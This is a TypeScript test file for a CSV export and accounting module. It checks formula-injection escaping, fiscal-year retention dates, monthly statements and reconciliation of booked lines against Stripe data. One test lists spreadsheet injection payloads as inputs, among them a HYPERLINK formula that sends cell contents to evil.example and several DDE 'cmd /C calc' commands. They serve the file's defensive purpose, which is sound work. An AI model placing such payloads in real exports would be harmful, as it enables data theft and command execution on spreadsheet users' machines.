import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { csvRecord, numberCell, textCell } from './csv.rules.ts';
import { keptUntil, sayKeeping } from './keeping.rules.ts';
import { boundsOf, checkLines, missingHere, statementsOf, type LineHere } from './statement.rules.ts';

/** Reads one record as a spreadsheet does: quoted cells with doubled quotes, or bare ones. */
function readRecord(record: string): { text: string; quoted: boolean }[] {
  const cells: { text: string; quoted: boolean }[] = [];
  const body = record.slice(0, -2);
  for (let at = 0; at <= body.length;) {
    if (body[at] === '"') {
      let text = '';
      for (at += 1; ; at += 1) {
        if (body[at] === '"' && body[at + 1] === '"') at += 1;
        else if (body[at] === '"') break;
        text += body[at];
      }
      cells.push({ text, quoted: true });
      at += 2;
    } else {
      const end = body.indexOf(',', at) === -1 ? body.length : body.indexOf(',', at);
      cells.push({ text: body.slice(at, end), quoted: false });
      at = end + 1;
    }
  }
  return cells;
}

describe('a cell of text', () => {
  // The characters of OWASP's list, each with a payload that has been seen, and the ways around a naive guard.
  it.each([
    '=1+1', `=HYPERLINK("https://evil.example?x="&A1,"Error")`, '=cmd|\' /C calc\'!A0', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '\u00A0=1+1',
    '\uFF1D1+1', '\uFF0B1', '\uFF0D1', '\uFF20SUM(1)', '=1+1";=1+1', '=1+1,=1+1', '"=1+1"\t', '-5', '+49', '=', '\t', '-',
  ])('that could open a formula begins with an apostrophe: %j', (payload) => {
    const [cell, ...more] = readRecord(csvRecord([textCell(payload)]));
    expect(more).toEqual([]);
    expect(cell?.quoted).toBe(true);
    expect(cell?.text).toBe(payload.startsWith('"') ? payload : `'${payload}`);
  });

  it('of any characters is one cell, holds every one of them, and never begins as a formula does', () => {
    fc.assert(fc.property(fc.array(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', '=1+1')).map(String), { minLength: 1, maxLength: 5 }), (texts) => {
      const cells = readRecord(csvRecord(texts.map(textCell)));
      expect(cells.map(({ text }) => text.replace(/^'(?=\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|[\t\r\n])/, ''))).toEqual(texts);
      for (const { text } of cells) expect(text).not.toMatch(/^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/);
    }), { numRuns: 500 });
  });
});

test.each(['0', '15.00', '-15.00', '-0.005', '2147483647'])('a cell of numbers stays a number, also below zero: %s', (number) => {
  expect(csvRecord([numberCell(number)])).toBe(`${number}\r\n`);
});
test.each(['', '-', '=1', '1+1', '-1+cmd', '1e5', '0x1', ' 1', '1 ', '1,5', '--1', '+1', 'NaN'])('and takes nothing else: %j', (text) => {
  expect(() => numberCell(text)).toThrow('holds something else');
});

test('a line is kept ten years from the end of its fiscal year, whenever that begins', () => {
  const day = (at: string, fiscalYearMonth: number, years = 10) => keptUntil(new Date(at), { years, fiscalYearMonth }).toISOString().slice(0, 10);
  expect(day('2026-01-01T00:00:00Z', 1)).toBe('2036-12-31');
  expect(day('2026-12-31T23:59:59Z', 1)).toBe('2036-12-31');
  expect(day('2026-03-31T23:59:59Z', 4)).toBe('2036-03-31');
  expect(day('2026-04-01T00:00:00Z', 4)).toBe('2037-03-31');
  expect(day('2026-11-20T00:00:00Z', 1, 7)).toBe('2033-12-31');
  expect(sayKeeping({ years: 10, fiscalYearMonth: 4 })).toContain('begins in month 4');
});

test('a month begins and ends by the UTC calendar', () => {
  expect(boundsOf('2026-11')).toEqual({ from: new Date('2026-11-01T00:00:00Z'), to: new Date('2026-12-01T00:00:00Z') });
  expect(boundsOf('2026-12').to).toEqual(new Date('2027-01-01T00:00:00Z'));
});

test('a statement opens with everything before, names a currency that rests, and its products add up to it', () => {
  const statements = statementsOf('2026-11', [
    { currency: 'EUR', slug: 'a', kind: 'charge', count: 2, minor: 3000 }, { currency: 'EUR', slug: 'a', kind: 'refund', count: 1, minor: -1500 },
    { currency: 'EUR', slug: 'b', kind: 'dispute', count: 1, minor: -700 }, { currency: 'EUR', slug: 'b', kind: 'adjustment', count: 1, minor: 700 },
  ], [{ currency: 'EUR', minor: 100 }, { currency: 'JPY', minor: 9 }], [{ currency: 'EUR', count: 1 }]);
  expect(statements).toEqual([
    expect.objectContaining({ currency: 'EUR', openingMinor: 100, netMinor: 1500, closingMinor: 1600, bookedLate: 1, charges: { count: 2, minor: 3000 }, refunds: { count: 1, minor: -1500 } }),
    expect.objectContaining({ currency: 'JPY', openingMinor: 9, netMinor: 0, closingMinor: 9, products: [], bookedLate: 0 }),
  ]);
  expect(statements[0]?.products.map(({ slug, netMinor }) => [slug, netMinor])).toEqual([['a', 1500], ['b', 0]]);
});

test('books and desk are held against each other line by line', () => {
  const here = (stripeObjectId: string, minor: number, currency = 'EUR'): LineHere => ({ kind: 'charge', stripeObjectId, orderCode: 'ABC', minor, currency });
  const there = (stripeObjectId: string, amountMinor: number, currency = 'EUR') => ({ kind: 'charge' as const, stripeObjectId, amount: { amountMinor, currency } });
  const ours = [here('same', 700), here('less', 700), here('coin', 700), here('gone', 700)];
  const theirs = [there('same', 700), there('less', 600), there('coin', 700, 'USD'), there('new', 900), there('late', 500)];
  expect(missingHere(ours, theirs).map(({ stripeObjectId }) => stripeObjectId)).toEqual(['new', 'late']);
  const check = checkLines('2026-11', ours, theirs, [here('late', 500)]);
  expect(check.differences.map(({ word, stripeObjectId, hereMinor, thereMinor }) => [word, stripeObjectId, hereMinor, thereMinor])).toEqual([
    ['amount_differs', 'less', 700, 600], ['amount_differs', 'coin', 700, 700], ['missing_here', 'new', null, 900], ['other_month', 'late', 500, 500], ['missing_there', 'gone', 700, null],
  ]);
  expect(check).toMatchObject({ linesHere: 4, linesThere: 5, differing: 5, nets: [{ currency: 'EUR', hereMinor: 2800, thereMinor: 2700 }, { currency: 'USD', hereMinor: 0, thereMinor: 700 }] });
  expect(checkLines('2026-11', ours.slice(0, 1), theirs.slice(0, 1), [])).toMatchObject({ differing: 0, differences: [] });
});
